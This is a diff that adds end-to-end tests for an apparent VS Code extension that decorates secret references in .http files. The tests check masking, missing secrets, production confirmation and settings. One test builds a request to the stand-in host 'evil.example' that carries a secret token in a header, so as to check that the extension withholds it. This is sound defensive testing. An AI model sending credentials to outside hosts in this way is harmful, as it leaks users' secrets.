@@ -1,0 +1,116 @@
+import assert from 'node:assert/strict';
+import { mkdir } from 'node:fs/promises';
+import { join } from 'node:path';
+import { until } from '../host/until';
+import { workbench } from '../host/workbench';
+import { outletEntry, setClients, setSetting } from './bench';
+import {
+  decorations,
+  openUntitled,
+  reference,
+  untilDecorated,
+  useOutletFile,
+  variable,
+} from './httpFilesBench';
+
+describe('a .http file shows behind a reference', () => {
+  const { bench, text } = useOutletFile();
+
+  it('what is wrong with it', async () => {
+    await setClients([
+      outletEntry(bench.sandbox),
+      outletEntry(bench.sandbox, { name: 'lost', clientId: 'other' }),
+      outletEntry(bench.sandbox, { name: 'live', environment: 'production' }),
+    ]);
+    const names = ['OUTLET_TOKEN', 'OUTLET_CLIENT_ID', 'OUTLT_TOKEN', 'LOST_TOKEN', 'LIVE_TOKEN'];
+    await openUntitled(
+      names
+        .map((name) => `### \nGET ${bench.sandbox.gobiz.url}/\nX: {{$processEnv GOBIZ_${name}}}\n`)
+        .join('\n'),
+    );
+    await untilDecorated(
+      /^\S{4}…\S{4} · until/,
+      /^sandbox-outlet$/,
+      /^no such client$/,
+      /^secret missing$/,
+      /^production: confirm to use$/,
+    );
+  });
+
+  it('what the server answered', async () => {
+    await setClients([outletEntry(bench.sandbox, { clientId: 'refused' })]);
+    await workbench.driver.openFile('outlets.http');
+    await untilDecorated(/^401: /);
+    assert.equal(await variable(), null);
+  });
+
+  it('that it is withheld, here and elsewhere', async () => {
+    await openUntitled(`${text()}\n###\nGET https://evil.example/\nX: ${reference}\n`);
+    await untilDecorated(/^withheld: host not allowed in line 7$/, /^withheld: host not allowed$/);
+  });
+
+  it('no error on the way, while the .env beside it is being read', async () => {
+    await mkdir(join(workbench.folder, 'beside'), { recursive: true });
+    await workbench.writeFile('beside/.env', `HOST=${bench.sandbox.gobiz.url}\n`);
+    await workbench.writeFile('beside/host.http', text('{{$dotenv HOST}}'));
+    // The status bar speaks of the file before a moment longer.
+    await workbench.driver.statusItems().filter({ hasText: 'withheld' }).waitFor({ state: 'hidden' });
+    await workbench.page.evaluate(watchTexts);
+    await workbench.host.run(
+      (vscode, file) => vscode.window.showTextDocument(vscode.Uri.file(file)),
+      join(workbench.folder, 'beside/host.http'),
+    );
+    await untilDecorated(/^\S{4}…\S{4} · until/);
+    const seen = await workbench.page.evaluate<string[]>(
+      'const seen = [...window.kunciTexts]; window.kunciTexts = undefined; seen',
+    );
+    assert.deepEqual(
+      seen.filter((one) => one.includes('withheld')),
+      [],
+    );
+  });
+
+  it('as much as the setting says', async () => {
+    await openUntitled(`@t = ${reference}\n${text().replace(reference, '{{t}}')}`);
+    await untilDecorated(/^\S{4}…\S{4} · until/);
+    await setSetting('decorations', 'stateOnly');
+    await untilDecorated(/^until/);
+    await setSetting('decorations', 'off');
+    await untilDecorated();
+    await setSetting('decorations', undefined);
+    await untilDecorated(/^\S{4}…\S{4} · until/);
+  });
+
+  it('the same in both halves of a split editor', async () => {
+    await workbench.driver.openFile('outlets.http');
+    await untilDecorated(/until/);
+    await workbench.host.run((vscode) => vscode.commands.executeCommand('workbench.action.splitEditor'));
+    await until(async () => (await decorations(0)).length === 1 && (await decorations(1)).length === 1);
+  });
+
+  it('nothing while the language is another', async () => {
+    await workbench.driver.openFile('outlets.http');
+    await untilDecorated(/until/);
+    const language = (id: string) =>
+      workbench.host.run(async (vscode, to) => {
+        const document = vscode.window.activeTextEditor?.document;
+        if (document) await vscode.languages.setTextDocumentLanguage(document, to);
+      }, id);
+    await language('plaintext');
+    await untilDecorated();
+    await language('http');
+    await untilDecorated(/until/);
+  });
+});
+
+/** What stands behind references and in the status bar, looked at in each frame, as a person does. */
+const watchTexts = `
+  window.kunciTexts = new Set();
+  (function look() {
+    if (!window.kunciTexts) return;
+    for (const one of document.querySelectorAll('.view-line span span')) {
+      window.kunciTexts.add(getComputedStyle(one, '::after').content);
+    }
+    for (const one of document.querySelectorAll('.statusbar-item')) window.kunciTexts.add(one.innerText);
+    requestAnimationFrame(look);
+  })()`;
